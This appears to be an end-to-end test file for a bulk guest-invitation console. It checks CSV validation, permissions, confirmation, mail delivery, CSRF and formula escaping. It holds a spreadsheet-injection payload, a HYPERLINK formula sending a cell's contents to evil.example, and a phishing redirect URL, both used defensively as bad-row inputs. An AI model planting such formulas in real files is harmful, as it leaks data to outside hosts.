/**
 * Bulk invitation in the console (issue 17): a file of 1,000 guests with 10 bad rows is validated
 * before anything is sent, the bad rows are listed by line, nothing is written or mailed until the
 * uploader confirms; then 990 invitations (mail over a real SMTP server for some) and a result file
 * of 1,000 rows. Another admin cannot read or confirm the job; a Groups Administrator is refused
 * with nothing written; a formula in a cell comes back escaped.
 */
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { memberOnMyApps } from '../portal/portal-helpers.js';
import { errorCodeOf, headingOf, type Browser } from '../support/browserless.js';
import { useWorld } from '../support/world.js';

const world = useWorld({
  smtp: true,
  members: [{ email: 'admin@contoso.example', admin: true }, { email: 'other-admin@contoso.example', admin: true }, 'inviter@contoso.example', 'groups@contoso.example', 'consultant@elsewhere.example'],
});
const db = () => world.foyer.foyer.db;
const BASE = () => `${world.issuer}/myapps/admin/invite`;
const MAILED = 5;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1)';

/** 1,000 rows: 990 good (the first MAILED with sendMail true) and 10 bad, at known lines. */
function bigFile(): { csv: string; bad: Map<number, string> } {
  const lines = ['email,displayName,redirectUrl,sendMail,message'];
  const bad = new Map<number, string>();
  const badRows: [string, string][] = [
    ['not-an-address,Nobody,,false,', 'invalidRow'],
    ['guest1@bulk.example,Twice,,false,', 'duplicateEmail'],
    ['newcomer@contoso.example,Member domain,,false,', 'memberDomainAddress'],
    ['consultant@elsewhere.example,A member,,false,', 'userAlreadyMember'],
    ['redirect@bulk.example,Elsewhere,https://evil.example/phish,false,', 'redirectUrlNotRegistered'],
    ['maybe@bulk.example,Unsure,,maybe,', 'invalidSendMail'],
    [`long@bulk.example,Wordy,,false,${'x'.repeat(4001)}`, 'invalidRow'],
    [`"${FORMULA.replace(/"/g, '""')}",Formula,,false,`, 'invalidRow'],
    ['"=1+2@bulk.example",Formula two,,false,', 'invalidRow'],
    ['@nolocal.example,No local part,,false,', 'invalidRow'],
  ];
  let good = 0;
  for (let i = 0; lines.length < 1001; i++) {
    const line = lines.length + 1;
    if (i % 100 === 50 && bad.size < badRows.length) {
      const [row, code] = badRows[bad.size]!;
      bad.set(line, code);
      lines.push(row);
      continue;
    }
    lines.push(`guest${good}@bulk.example,Guest ${good},,${good < MAILED ? 'true' : 'false'},${good < MAILED ? 'Welcome aboard' : ''}`);
    good++;
  }
  return { csv: `${lines.join('\r\n')}\r\n`, bad };
}

async function upload(browser: Browser, csv: string, fileName = 'guests.csv') {
  const form = new FormData();
  form.set('_csrf', browser.cookiesFor(world.issuer)['foyer.csrf'] ?? '');
  form.set('file', new Blob([csv], { type: 'text/csv' }), fileName);
  return browser.request(`${BASE()}/`, { method: 'POST', body: form });
}

async function post(browser: Browser, path: string, fields: Record<string, string> = {}) {
  const body = new URLSearchParams({ _csrf: browser.cookiesFor(world.issuer)['foyer.csrf']!, ...fields });
  return browser.request(`${BASE()}${path}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: body.toString() });
}

/**
 * The drain runs in this test's own process on synchronous SQLite, so the client's and the server's
 * keep-alive timers can fire in the wrong order and the first request after it meets a socket the
 * server just closed. A browser retries an idempotent request then; so does this, once, for a GET.
 */
async function getAfterDrain(browser: Browser, url: string, init: RequestInit = {}): Promise<Response> {
  try {
    return await browser.request(url, init);
  } catch (err) {
    if ((err as { cause?: { code?: string } }).cause?.code !== 'ECONNRESET') throw err;
    return browser.request(url, init);
  }
}

const counts = async () => ({
  users: Number((await db()('users').count({ n: '*' }).first())!.n),
  invitations: Number((await db()('invitations').count({ n: '*' }).first())!.n),
  jobs: Number((await db()('bulk_invitation_jobs').count({ n: '*' }).first())!.n),
  mails: world.smtp.messages.length,
});

let inviter: Browser;
let jobUrl: string;
const file = bigFile();

beforeAll(async () => {
  await world.foyer.foyer.users.setRoles(world.members['inviter@contoso.example']!, ['guestInviter']);
  await world.foyer.foyer.users.setRoles(world.members['groups@contoso.example']!, ['groupsAdministrator']);
  ({ browser: inviter } = await memberOnMyApps(world.foyer, 'inviter@contoso.example', '/myapps/admin/invite'));
});

describe('a Groups Administrator', () => {
  it('gets 403 consolePermissionRequired for the page and the upload, and nothing is written', async () => {
    const { browser, page } = await memberOnMyApps(world.foyer, 'groups@contoso.example', '/myapps/admin/invite');
    expect([page.status, errorCodeOf(page.body)]).toEqual([403, 'consolePermissionRequired']);
    const before = await counts();
    const res = await upload(browser, 'email\nsomeone@bulk.example\n');
    expect([res.status, errorCodeOf(await res.text())]).toEqual([403, 'consolePermissionRequired']);
    expect(await counts()).toEqual(before);
  });
});

describe('a Guest Inviter uploading 1,000 rows with 10 bad ones', () => {
  it('sees every bad row with its line and reason, and nothing is invited or mailed yet', async () => {
    const before = await counts();
    const res = await upload(inviter, file.csv);
    expect(res.status).toBe(303);
    jobUrl = new URL(res.headers.get('location')!, world.issuer).href;
    const page = await inviter.navigate(jobUrl);
    expect([page.status, headingOf(page.body)]).toEqual([200, 'Bulk invite']);
    expect(page.body).toContain('1000 rows: 990 valid, 10 with problems.');
    const listed = [...page.body.matchAll(/<li data-line="(\d+)">[\s\S]*?<code>([A-Za-z]+)<\/code>/g)].map((m) => [Number(m[1]), m[2]]);
    expect(new Map(listed as [number, string][])).toEqual(file.bad);
    expect(page.body).toContain('Send 990 invitations');
    // Validation wrote the job only: no user, no invitation, no mail.
    expect(await counts()).toEqual({ ...before, jobs: before.jobs + 1 });
  });

  it('another admin can neither see, download, confirm nor cancel it (404), and the job stays waiting', async () => {
    const { browser } = await memberOnMyApps(world.foyer, 'other-admin@contoso.example');
    const id = jobUrl.split('/').pop()!;
    for (const path of [`/${id}`, `/${id}/status`, `/${id}/result.csv`]) {
      const page = await browser.navigate(`${BASE()}${path}`);
      expect([path, page.status, errorCodeOf(page.body)]).toEqual([path, 404, 'bulkJobNotFound']);
      expect(page.body).not.toContain('guest1@bulk.example');
    }
    for (const path of [`/${id}/confirm`, `/${id}/cancel`]) {
      const res = await post(browser, path, { confirm: 'yes' });
      expect([path, res.status]).toEqual([path, 404]);
    }
    expect((await db()('bulk_invitation_jobs').where({ id }).first()).status).toBe('validated');
    expect(Number((await db()('invitations').count({ n: '*' }).first())!.n)).toBe(0);
  });

  it('confirmed, sends 990 invitations (mail for the rows that asked, over SMTP) and the result file has 1,000 rows', async () => {
    const id = jobUrl.split('/').pop()!;
    // A confirmation without confirm=yes (a stray POST) sends nothing.
    expect((await post(inviter, `/${id}/confirm`)).status).toBe(400);
    expect((await db()('bulk_invitation_jobs').where({ id }).first()).status).toBe('validated');

    const res = await post(inviter, `/${id}/confirm`, { confirm: 'yes' });
    expect([res.status, res.headers.get('location')]).toEqual([303, `/myapps/admin/invite/${id}?notice=confirmed`]);
    await world.foyer.foyer.bulkInvitations.drain();

    const status = await (await getAfterDrain(inviter, `${BASE()}/${id}/status`, { headers: { accept: 'application/json' } })).json();
    expect(status).toEqual({ id, status: 'done', total: 1000, invalid: 10, pending: 0, invited: 990, failed: 0 });
    const invitations = await db()('invitations').select('invited_email', 'send_invitation_message', 'invited_by_id', 'status');
    expect(invitations).toHaveLength(990);
    expect(new Set(invitations.map((i) => i.invited_by_id))).toEqual(new Set([world.members['inviter@contoso.example']]));
    expect(invitations.filter((i) => i.send_invitation_message).length).toBe(MAILED);
    for (let i = 0; i < MAILED; i++) {
      const mail = await world.smtp.waitForMessage(`guest${i}@bulk.example`);
      expect(mail.text).toContain('Welcome aboard');
      expect(mail.text).toMatch(/\/redeem\?t=/);
    }
    expect(world.smtp.messages.filter((m) => m.to.some((t) => t.endsWith('@bulk.example'))).length).toBe(MAILED);

    const download = await inviter.request(`${BASE()}/${id}/result.csv`);
    expect(download.headers.get('content-type')).toContain('text/csv');
    expect(download.headers.get('content-disposition')).toContain('attachment');
    const rows = parse(await download.text(), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1000);
    expect(rows.filter((r) => r.status === 'invited' && /^[0-9a-f-]{36}$/.test(r.invitationId!))).toHaveLength(990);
    expect(new Map(rows.filter((r) => r.status === 'invalid').map((r) => [Number(r.line), r.errorCode]))).toEqual(file.bad);

    // The page after a reload shows the finished job.
    const page = await inviter.navigate(jobUrl);
    expect(page.body).toContain('990 invited, 0 failed');
    expect(page.body).not.toContain('http-equiv="refresh"');
  });

  it('a replayed confirmation sends nothing more (409)', async () => {
    const id = jobUrl.split('/').pop()!;
    const before = await counts();
    const res = await post(inviter, `/${id}/confirm`, { confirm: 'yes' });
    expect([res.status, errorCodeOf(await res.text())]).toEqual([409, 'bulkJobNotWaiting']);
    await world.foyer.foyer.bulkInvitations.drain();
    expect(await counts()).toEqual(before);
  });

  it('a formula in a cell comes back escaped in the result file, never as a formula', async () => {
    const id = jobUrl.split('/').pop()!;
    const text = await (await inviter.request(`${BASE()}/${id}/result.csv`)).text();
    const cells = (parse(text) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${FORMULA}`);
  });
});

describe('uploads refused as a whole', () => {
  it.each([
    ['no email column', 400, 'bulkEmailColumnMissing', 'name,redirect\nAda,\n'],
    ['no rows', 400, 'bulkFileEmpty', 'email\n'],
    ['broken quoting', 400, 'bulkFileMalformed', 'email,displayName\n"a@bulk.example,Ada\n'],
    ['more than 10,000 rows', 413, 'bulkTooManyRows', `email\n${Array.from({ length: 10_001 }, (_, i) => `r${i}@bulk.example`).join('\n')}\n`],
    ['more than 5 MB', 413, 'bulkFileTooLarge', `email,message\n${Array.from({ length: 1400 }, (_, i) => `m${i}@bulk.example,${'y'.repeat(3900)}`).join('\n')}\n`],
  ])('%s: %i %s, nothing written', async (_what, status, code, csv) => {
    const before = await counts();
    const res = await upload(inviter, csv);
    expect([res.status, errorCodeOf(await res.text())]).toEqual([status, code]);
    expect(await counts()).toEqual(before);
  });

  it("accepts Entra's template as it comes (version line, bracketed names, example row)", async () => {
    const csv = [
      'version:v1.0',
      'Email address to invite [inviteeEmail] Required,Redirection url [inviteRedirectURL] Required,Send invitation message (true or false) [sendEmail],Customized invitation message [customizedMessageBody]',
      'Example: abc@fabrikam.com,Example: https://myapps.microsoft.com,Example: true,Example: Hello',
      `entra@bulk.example,${world.issuer}/myapps,false,Hi`,
      'bad entra,,false,',
    ].join('\n');
    const res = await upload(inviter, csv, 'entra.csv');
    expect(res.status).toBe(303);
    const page = await inviter.navigate(new URL(res.headers.get('location')!, world.issuer).href);
    expect(page.body).toContain('2 rows: 1 valid, 1 with problems.');
    // Lines as the admin's spreadsheet numbers them: the version line is line 1.
    expect(page.body).toMatch(/<li data-line="5">/);
  });

  it('a pasted text area works too (form-encoded), with the CSRF token checked', async () => {
    const body = new URLSearchParams({ csv: 'email\npasted@bulk.example\n' });
    const forged = await inviter.request(`${BASE()}/`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: body.toString() });
    expect([forged.status, errorCodeOf(await forged.text())]).toEqual([403, 'csrfTokenInvalid']);
    body.set('_csrf', inviter.cookiesFor(world.issuer)['foyer.csrf']!);
    const res = await inviter.request(`${BASE()}/`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: body.toString() });
    expect(res.status).toBe(303);
  });
});
